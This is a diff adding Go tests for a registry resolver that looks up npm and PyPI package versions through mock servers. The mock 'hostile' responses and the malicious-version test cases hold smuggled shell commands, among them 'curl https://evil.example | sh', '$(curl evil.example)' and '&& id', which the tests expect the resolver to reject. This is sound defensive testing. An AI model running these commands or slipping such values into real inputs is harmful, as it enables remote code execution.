@@ -0,0 +1,150 @@
+package registry_test
+
+import (
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/lvrach/smp/internal/registry"
+)
+
+// serve starts a registry answering the given paths with their documents and
+// other paths with 404
+func serve(t *testing.T, documents map[string]string) string {
+	t.Helper()
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		// EscapedPath shows how the package name was escaped in the request
+		if doc, ok := documents[r.URL.EscapedPath()]; ok {
+			w.Header().Set("Content-Type", "application/json")
+			w.Write([]byte(doc))
+			return
+		}
+		http.NotFound(w, r)
+	}))
+	t.Cleanup(server.Close)
+	return server.URL
+}
+
+func TestNPMResolve(t *testing.T) {
+	url := serve(t, map[string]string{
+		"/mcp-server":   `{"dist-tags":{"latest":"1.2.0","next":"2.0.0-beta.1"},"versions":{"1.1.0":{},"1.2.0":{},"2.0.0-beta.1":{}}}`,
+		"/@scope%2Fmcp": `{"dist-tags":{"latest":"0.3.1"},"versions":{"0.3.1":{}}}`,
+		"/broken":       `{"dist-tags":`,
+		"/hostile":      `{"dist-tags":{"latest":"1.0.0; curl https://evil.example | sh"},"versions":{"1.0.0 && id":{}}}`,
+	})
+	t.Setenv("SMP_NPM_REGISTRY", url+"/")
+
+	tests := []struct {
+		name     string
+		pkg      string
+		version  string
+		want     string
+		notFound bool
+	}{
+		{name: "latest", pkg: "mcp-server", want: "1.2.0"},
+		{name: "latest tag", pkg: "mcp-server", version: "latest", want: "1.2.0"},
+		{name: "other tag", pkg: "mcp-server", version: "next", want: "2.0.0-beta.1"},
+		{name: "exact version", pkg: "mcp-server", version: "1.1.0", want: "1.1.0"},
+		{name: "scoped package", pkg: "@scope/mcp", want: "0.3.1"},
+		{name: "unknown version", pkg: "mcp-server", version: "9.9.9", notFound: true},
+		{name: "unknown package", pkg: "missing", notFound: true},
+		{name: "invalid response", pkg: "broken"},
+		{name: "malicious tag", pkg: "hostile"},
+		{name: "malicious version", pkg: "hostile", version: "1.0.0 && id"},
+	}
+
+	reg, err := registry.New(registry.NPM)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := reg.Resolve(tt.pkg, tt.version)
+			checkResolve(t, got, err, tt.want, tt.notFound)
+		})
+	}
+
+	if got := reg.InstallURL(); got != url+"/" {
+		t.Errorf("InstallURL() = %q, want %q", got, url+"/")
+	}
+}
+
+func TestPyPIResolve(t *testing.T) {
+	url := serve(t, map[string]string{
+		"/pypi/mcp-server/json": `{"info":{"version":"0.5.0"},"releases":{"0.4.0":[],"0.5.0":[],"0.6.0rc1":[]}}`,
+		"/pypi/broken/json":     `not json`,
+		"/pypi/hostile/json":    `{"info":{"version":"1.0\n$(curl evil.example)"},"releases":{"1.0;id":[]}}`,
+	})
+	t.Setenv("SMP_PYPI_URL", url)
+
+	tests := []struct {
+		name     string
+		pkg      string
+		version  string
+		want     string
+		notFound bool
+	}{
+		{name: "latest", pkg: "mcp-server", want: "0.5.0"},
+		{name: "latest tag", pkg: "mcp-server", version: "latest", want: "0.5.0"},
+		{name: "exact version", pkg: "mcp-server", version: "0.4.0", want: "0.4.0"},
+		{name: "pre-release", pkg: "mcp-server", version: "0.6.0rc1", want: "0.6.0rc1"},
+		{name: "unknown version", pkg: "mcp-server", version: "1.0.0", notFound: true},
+		{name: "unknown package", pkg: "missing", notFound: true},
+		{name: "invalid response", pkg: "broken"},
+		{name: "malicious latest", pkg: "hostile"},
+		{name: "malicious version", pkg: "hostile", version: "1.0;id"},
+	}
+
+	reg, err := registry.New(registry.PyPI)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := reg.Resolve(tt.pkg, tt.version)
+			checkResolve(t, got, err, tt.want, tt.notFound)
+		})
+	}
+
+	if got := reg.InstallURL(); got != url+"/simple" {
+		t.Errorf("InstallURL() = %q, want %q", got, url+"/simple")
+	}
+}
+
+func TestDefaultInstallURL(t *testing.T) {
+	t.Setenv("SMP_NPM_REGISTRY", "")
+	t.Setenv("SMP_PYPI_URL", "")
+
+	for _, kind := range []string{registry.NPM, registry.PyPI} {
+		reg, err := registry.New(kind)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got := reg.InstallURL(); got != "" {
+			t.Errorf("%s InstallURL() = %q, want the package manager's default", kind, got)
+		}
+	}
+
+	if _, err := registry.New("cargo"); err == nil {
+		t.Errorf("New(cargo) succeeded")
+	}
+}
+
+// checkResolve compares a resolved version to the expected one. A test case
+// without a version and not expecting ErrNotFound expects another error.
+func checkResolve(t *testing.T, got string, err error, want string, notFound bool) {
+	t.Helper()
+	switch {
+	case notFound:
+		if !errors.Is(err, registry.ErrNotFound) {
+			t.Errorf("got %q, %v, want %v", got, err, registry.ErrNotFound)
+		}
+	case want == "":
+		if err == nil || errors.Is(err, registry.ErrNotFound) {
+			t.Errorf("got %q, %v, want an error", got, err)
+		}
+	case err != nil || got != want:
+		t.Errorf("got %q, %v, want %q", got, err, want)
+	}
+}